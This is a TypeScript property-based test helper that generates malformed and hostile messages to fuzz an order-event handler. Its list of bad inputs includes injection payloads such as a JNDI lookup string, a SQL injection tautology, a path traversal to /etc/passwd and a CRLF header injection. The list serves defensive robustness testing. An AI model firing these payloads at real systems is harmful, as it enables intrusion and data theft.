import fc from "fast-check";
import type { OrderEvent } from "../../domain/events.ts";
import { anEvent } from "../support/sqs-records.ts";

/** Inputs that nobody should send. */

/** Texts that have broken one program or another. */
const NASTY = [
  "",
  " ",
  "\u0000",
  "\ud800",
  "\uffff",
  "\u202e",
  "a\r\nSet-Cookie: a=b",
  "__proto__",
  "constructor",
  "toString",
  "NaN",
  "1e400",
  "null",
  "[object Object]",
  "../../etc/passwd",
  "%00",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what some programs fill in.
  "${jndi:ldap://example.com}",
  "' OR 1=1 --",
  "é",
  "e\u0301",
  "x".repeat(50_000),
  "€".repeat(20_000),
];

export const hostileText = fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: "binary" }));

const deep = fc.integer({ min: 100, max: 3_000 }).map((depth) => JSON.parse("[".repeat(depth) + "]".repeat(depth)));

/** Anything that JSON can carry. */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  hostileText,
  fc.jsonValue(),
  deep,
  fc.constantFrom(null, true, 0, -0, -1, 1e308, Number.MAX_SAFE_INTEGER, [], {}, { toString: 1 }),
  fc.dictionary(hostileText, fc.jsonValue()),
);

/** An object with some of its fields taken away, some spoilt and some added. */
export function spoilt(value: object): fc.Arbitrary<Record<string, unknown>> {
  const keys = Object.keys(value);
  return fc
    .record({
      missing: fc.subarray(keys, { maxLength: 2 }),
      wrong: fc.dictionary(fc.constantFrom(...keys), hostileValue, { maxKeys: 2 }),
      added: fc.dictionary(hostileText, hostileValue, { maxKeys: 1 }),
    })
    .map(({ missing, wrong, added }) => {
      const entries = Object.entries({ ...value, ...wrong, ...added });
      return Object.fromEntries(entries.filter(([key]) => !missing.includes(key)));
    });
}

/** Events as they were, might have been or never will be: of other types, shapes and ages. */
export const spoiltEvent = fc.oneof(
  spoilt(anEvent()),
  spoilt(anEvent({ type: "OrderCancelRequested", version: 9 })),
  fc.constantFrom<object>(
    // As an older version of the system might have sent them, and a newer one might.
    { orderId: anEvent().orderId, status: "PENDING" },
    { ...anEvent(), type: "OrderCreated" },
    { ...anEvent(), schemaVersion: 2, data: { ...anEvent() } },
    { ...anEvent(), orderId: anEvent().orderId.toUpperCase() },
    { ...anEvent(), orderId: `${anEvent().orderId}\n` },
    { ...anEvent(), version: "1" },
  ),
);

/** A message's body. */
export const hostileMessage: fc.Arbitrary<string> = fc.oneof(
  hostileText,
  hostileValue.map((value) => JSON.stringify(value)),
  spoiltEvent.map((event) => JSON.stringify(event)),
  // Once too often.
  spoiltEvent.map((event) => JSON.stringify(JSON.stringify(event))),
  fc.constant(JSON.stringify(anEvent()).slice(0, -1)),
  fc.constantFrom<OrderEvent["type"]>("OrderPlaced", "OrderShipped").map((type) => JSON.stringify(anEvent({ type }))),
);
